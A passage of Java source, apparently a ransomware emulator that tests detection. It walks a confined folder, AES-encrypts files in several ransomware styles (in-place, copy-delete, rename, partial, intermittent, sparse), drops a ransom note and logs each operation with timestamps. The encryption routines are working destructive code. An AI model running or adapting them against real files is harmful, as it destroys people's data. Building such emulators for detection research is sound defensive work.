        if (Files.isDirectory(p, LinkOption.NOFOLLOW_LINKS)) {
          walk(p);
        }
      }
      return;
    }
    for (Path p : entries) {
      if (Files.isDirectory(p, LinkOption.NOFOLLOW_LINKS)) {
        walk(p);
        continue;
      }
      if (!Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)) {
        continue; // symbolic links, sockets, devices: never followed or touched
      }
      String name = p.getFileName().toString();
      if (name.equals(MARKER) || name.equals(NOTE_NAME) || name.endsWith("." + ext)) {
        continue;
      }
      if (shards > 1 && Math.floorMod(root.relativize(p).toString().hashCode(), shards) != shard) {
        continue;
      }
      if (!inside(p)) {
        continue;
      }
      if (!firstFile && behaviour.equals("slow")) {
        Thread.sleep(intervalMs);
      }
      firstFile = false;
      try {
        attackFile(p);
        altered++;
      } catch (IOException e) {
        // A file removed or locked meanwhile (e.g. by the watcher): skip it, as ransomware does.
      }
    }
  }

  /** The canonical path must be strictly inside the canonical root, reached without a link. */
  private boolean inside(Path p) {
    try {
      Path real = p.toRealPath();
      if (!real.startsWith(root) || real.equals(root)
          || !real.equals(p.toAbsolutePath().normalize()) || Files.isSymbolicLink(p)) {
        return false;
      }
      // A hard link shares its content with a name that may lie outside the folder: skip it.
      return !Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)
          || ((Number) Files.getAttribute(p, "unix:nlink", LinkOption.NOFOLLOW_LINKS))
              .intValue() == 1;
    } catch (IOException | UnsupportedOperationException e) {
      return false;
    }
  }

  private void writeNote(Path dir) throws IOException {
    Path note = dir.resolve(NOTE_NAME);
    if (Files.exists(note, LinkOption.NOFOLLOW_LINKS)) {
      return; // another process of the same run already dropped it
    }
    if (!inside(dir) && !dir.equals(root)) {
      return;
    }
    long t = now();
    try {
      Files.write(note, NOTE_TEXT.getBytes(StandardCharsets.US_ASCII),
          StandardOpenOption.CREATE_NEW, StandardOpenOption.WRITE);
    } catch (java.nio.file.FileAlreadyExistsException e) {
      return;
    }
    log(t, "note", note, null);
  }

  private void attackFile(Path p) throws Exception {
    switch (behaviour) {
      case "inplace":
      case "slow":
      case "multi": {
        byte[] data = Files.readAllBytes(p);
        Cipher c = cipher();
        byte[] enc = c.doFinal(data);
        writeInPlace(p, enc, 0, "encrypt");
        break;
      }
      case "copy-delete": {
        byte[] data = Files.readAllBytes(p);
        byte[] enc = cipher().doFinal(data);
        Path target = p.resolveSibling(p.getFileName() + "." + ext);
        long t = now();
        try (FileChannel ch = FileChannel.open(target, StandardOpenOption.CREATE_NEW,
            StandardOpenOption.WRITE, LinkOption.NOFOLLOW_LINKS)) {
          writeFully(ch, enc, 0);
        }
        log(t, "copy", p, target);
        t = now();
        Files.delete(p);
        log(t, "delete", p, null);
        break;
      }
      case "rename-only": {
        Path target = p.resolveSibling(p.getFileName() + "." + ext);
        long t = now();
        Files.move(p, target, StandardCopyOption.ATOMIC_MOVE);
        log(t, "rename", p, target);
        break;
      }
      case "partial": {
        byte[] head = readHead(p, 1024);
        writeInPlace(p, cipher().doFinal(head), 0, "encrypt");
        break;
      }
      case "intermittent": {
        byte[] data = Files.readAllBytes(p);
        Cipher c = cipher();
        for (int off = 0; off < data.length; off += 32) {
          int len = Math.min(16, data.length - off);
          byte[] enc = c.update(data, off, len);
          // CTR is a stream mode: update returns exactly len bytes.
          System.arraycopy(enc, 0, data, off, len);
        }
        writeInPlace(p, data, 0, "encrypt");
        break;
      }
      case "sparse": {
        byte[] data = Files.readAllBytes(p);
        int pieces = 10;
        int pieceLen = Math.max(1, (int) Math.round(data.length * 0.04 / pieces));
        Cipher c = cipher();
        long t = -1;
        try (FileChannel ch = FileChannel.open(p, StandardOpenOption.WRITE,
            LinkOption.NOFOLLOW_LINKS)) {
          for (int i = 0; i < pieces; i++) {
            long off = (long) data.length * i / pieces;
            int len = (int) Math.min(pieceLen, data.length - off);
            if (len <= 0) {
              continue;
            }
            byte[] enc = c.update(data, (int) off, len);
            if (t < 0) {
              t = now();
            }
            writeFully(ch, enc, off);
          }
        }
        if (t >= 0) {
          log(t, "encrypt", p, null);
        }
        break;
      }
      default:
        throw new IllegalStateException(behaviour);
    }
  }

  private Cipher cipher() throws Exception {
    byte[] iv = new byte[16];
    secure.nextBytes(iv);
    Cipher c = Cipher.getInstance("AES/CTR/NoPadding");
    c.init(Cipher.ENCRYPT_MODE, key, new IvParameterSpec(iv));
    return c;
  }

  private static byte[] readHead(Path p, int n) throws IOException {
    try (FileChannel ch = FileChannel.open(p, StandardOpenOption.READ, LinkOption.NOFOLLOW_LINKS)) {
      ByteBuffer b = ByteBuffer.allocate((int) Math.min(n, ch.size()));
      while (b.hasRemaining() && ch.read(b) >= 0) {
        // fill
      }
      return b.array();
    }
  }

  private void writeInPlace(Path p, byte[] data, long off, String op) throws IOException {
    try (FileChannel ch = FileChannel.open(p, StandardOpenOption.WRITE,
        LinkOption.NOFOLLOW_LINKS)) {
      long t = now();
      writeFully(ch, data, off);
      ch.close();
      log(t, op, p, null);
    }
  }

  private static void writeFully(FileChannel ch, byte[] data, long off) throws IOException {
    ByteBuffer b = ByteBuffer.wrap(data);
    long pos = off;
    while (b.hasRemaining()) {
      pos += ch.write(b, pos);
    }
  }

  static long now() {
    Instant i = Instant.now();
    return i.getEpochSecond() * 1_000_000_000L + i.getNano();
  }

  private void log(long t, String op, Path path, Path to) throws IOException {
    if (log == null) {
      return;
    }
    StringBuilder sb = new StringBuilder();
    sb.append("{\"t_ns\":").append(t).append(",\"done_ns\":").append(now())
        .append(",\"pid\":").append(pid).append(",\"op\":\"").append(op)
        .append("\",\"path\":\"").append(json(path.toString())).append('"');
    if (to != null) {
      sb.append(",\"to\":\"").append(json(to.toString())).append('"');
    }
    sb.append("}\n");
    // One write per line on an O_APPEND stream: lines of concurrent processes never interleave.
    log.write(sb.toString().getBytes(StandardCharsets.UTF_8));
    log.flush();
  }

  static String json(String s) {
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '"' || c == '\\') {
        sb.append('\\').append(c);
      } else if (c < 0x20) {
        sb.append(String.format(Locale.ROOT, "\\u%04x", (int) c));
      } else {
        sb.append(c);
      }
    }
    return sb.toString();
  }
}
